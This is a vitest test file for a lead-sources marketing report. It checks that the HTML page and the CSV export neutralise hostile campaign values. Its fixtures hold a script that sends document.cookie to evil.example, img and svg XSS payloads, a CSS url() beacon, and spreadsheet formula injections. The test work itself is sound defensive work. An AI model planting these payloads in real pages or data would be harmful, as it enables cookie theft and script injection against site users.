// The report's page and CSV from figures whose values are hostile: the database refuses such
// campaign values, paths and hosts, but the report does not rely on it.
import { parseDocument } from "htmlparser2";
import { describe, expect, it } from "vitest";

import { sourcesCsv } from "./csv.ts";
import { type LeadSourceRow, type VisitRow, sourceFigures } from "./figures.ts";
import { REPORT_CSP, sourcesPage } from "./page.ts";
import { reportPeriod } from "./period.ts";

const NOW = new Date("2026-11-25T06:30:00Z");
const period = reportPeriod({ since: "2026-11-02", by: "week", now: NOW });

const hostile = {
  utm_source: `</title><script>fetch("https://evil.example/?"+document.cookie)</script>`,
  utm_medium: `"><img src=https://evil.example/pixel.png onerror=alert(1)>`,
  utm_campaign: '=HYPERLINK("https://evil.example","Open")',
  landing_path: `/x'><svg onload=alert(1)>`,
  referrer_host: `evil.example" style="background:url(https://evil.example/bg.png)`,
};

const row = (day: string, overrides: Partial<LeadSourceRow> = {}): LeadSourceRow => ({
  day,
  form: "contact-us-form",
  landing_path: "/",
  utm_source: "google",
  utm_medium: "cpc",
  utm_campaign: "diwali-2026",
  referrer_host: "www.google.com",
  leads: 1,
  ...overrides,
});

const rows = [
  row("2026-11-02", { leads: 2 }),
  row("2026-11-10", { ...hostile, form: "report-request", leads: 3 }),
  row("2026-11-17", { utm_source: null, utm_medium: null, utm_campaign: null, referrer_host: null }),
  row("2026-11-24", { form: "careers-notify", utm_campaign: "@SUM(1+1)", landing_path: "/careers" }),
  row("2026-10-20", { leads: 4 }),
];

/** Visits on the lead rows' pages and campaigns: the hostile one's 30, diwali-2026's 50. */
const visitRow = (day: string, visits: number, overrides: Partial<VisitRow> = {}): VisitRow => ({
  day,
  landing_path: "/",
  utm_source: "google",
  utm_medium: "cpc",
  utm_campaign: "diwali-2026",
  referrer_host: "www.google.com",
  visits,
  ...overrides,
});
const visits = [visitRow("2026-11-10", 30, hostile), visitRow("2026-11-02", 50)];

const page = sourcesPage(sourceFigures(rows, period, visits), { generatedAt: NOW });
const document = parseDocument(page);

/** Every element of the page, depth first. */
function elements(node = document as { children?: unknown[] }): { name: string; attribs: Record<string, string> }[] {
  return (node.children ?? []).flatMap((child) => {
    const element = child as { type?: string; name: string; attribs: Record<string, string>; children?: unknown[] };
    return element.type === "tag" || element.type === "script" || element.type === "style"
      ? [element, ...elements(element)]
      : [];
  });
}

describe("the sources report's page", () => {
  it("forbids every request and script in its first element after the charset", () => {
    const head = elements().find((element) => element.name === "head") as unknown as {
      children: { type: string; attribs: Record<string, string> }[];
    };
    const [charset, csp] = head.children.filter((child) => child.type === "tag");
    expect(charset?.attribs).toEqual({ charset: "utf-8" });
    expect(csp?.attribs).toEqual({ "http-equiv": "Content-Security-Policy", content: REPORT_CSP });
    expect(REPORT_CSP).toBe("default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'");
  });

  it("names nothing to fetch: no script, link, image, frame or URL, whatever the campaigns say", () => {
    const names = new Set(elements().map((element) => element.name));
    for (const name of ["script", "link", "img", "iframe", "object", "embed", "image", "use", "a", "base", "form"])
      expect(names.has(name), name).toBe(false);
    for (const element of elements()) {
      const attributes = Object.entries(element.attribs);
      expect(attributes.filter(([name]) => /^on|^(src|href|xlink:href|action|srcset)$/i.test(name))).toEqual([]);
      expect(attributes.filter(([, value]) => /url\(|https?:|\/\//i.test(value))).toEqual([]);
    }
    // The hostile values are in the text, where they fetch nothing; the styles name no URL.
    const styles = page.slice(page.indexOf("<style>"), page.indexOf("</style>"));
    expect(styles).not.toMatch(/url\(|@import|https?:/i);
  });

  it("shows each hostile value as text, escaped in HTML and in the SVG's titles", () => {
    expect(page).toContain("&lt;/title&gt;&lt;script&gt;fetch(&quot;https");
    expect(page).not.toContain("<script");
    // In the page and in the chart's tooltips alike.
    expect(page).toContain("Week of 9 Nov 2026, &lt;/title&gt;&lt;script&gt;fetch(");
    expect(page).toContain("/<wbr>x&#39;&gt;&lt;svg onload=alert(1)&gt;");
  });

  it("charts each campaign's conversion and each landing page's visits, best first", () => {
    const bars = (id: string) =>
      [...page.matchAll(new RegExp(`<svg[^>]*aria-labelledby="${id}-title"[^]*?</svg>`, "g"))]
        .map(([svg]) => [...svg.matchAll(/<text class="bar-name"[^>]*>([^<]*)<\/text>/g)].map(([, name]) => name))
        .flat();
    // diwali-2026: 2 leads from 50 visits; the hostile campaign: 3 from 30.
    expect(bars("chart-conversion")).toEqual([
      "=HYPERLINK(&quot;https://evil.example&quot;,&quot;Open…",
      "diwali-2026",
    ]);
    expect(bars("chart-where")).toEqual(["/", "/x&#39;&gt;&lt;svg onload=alert(1)&gt;"]);
  });

  it("draws a bar segment per series and week with leads, in both charts", () => {
    const bars = elements().filter((element) => element.name === "rect" && element.attribs.class === "bar");
    // By source: google, hostile, (not set), google again; by landing page: /, hostile, /, /careers.
    expect(bars).toHaveLength(8);
    const charts = elements().filter((element) => element.name === "svg");
    expect(charts.map((chart) => chart.attribs["aria-labelledby"])).toEqual([
      "chart-conversion-title",
      "chart-where-title",
      "chart-visits-leads-title",
      "chart-source-title",
      "chart-landing-title",
    ]);
  });
});

describe("the sources report's CSV", () => {
  it("puts an apostrophe before any value a spreadsheet would run, and leaves figures as numbers", () => {
    const csv = sourcesCsv(sourceFigures(rows, period));
    expect(csv).toContain(`utm_campaign,"'=HYPERLINK(""https://evil.example"",""Open"")",0,3,0,0,0,3,,0,0,,3,\n`);
    expect(csv).toContain("utm_campaign,'@SUM(1+1),0,0,0,1,0,1,,0,0,,1,\n");
    expect(csv).toContain("utm_campaign,diwali-2026,2,0,0,0,0,2,,0,4,,-2,-50\n");
  });
});
